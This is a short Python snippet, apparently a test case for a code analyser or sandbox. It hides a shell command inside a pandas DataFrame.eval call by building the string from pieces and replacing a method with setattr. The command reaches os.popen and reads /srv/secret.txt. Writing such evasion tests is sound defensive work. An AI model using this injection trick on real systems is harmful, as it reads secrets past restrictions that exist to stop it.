# reaches: setattr replaces a method that returns self by one that returns a table
import pandas as pd
class Table:
    def ready(self):
        return self
    def eval(self, text):
        return text
t = Table()
setattr(t, "ready", lambda: pd.DataFrame({"a": [1]}))
parts = ["@pd", "io", "common", "os", "popen('cat /srv/secret.txt')", "read()"]
print(t.ready().eval(".".join(parts)))
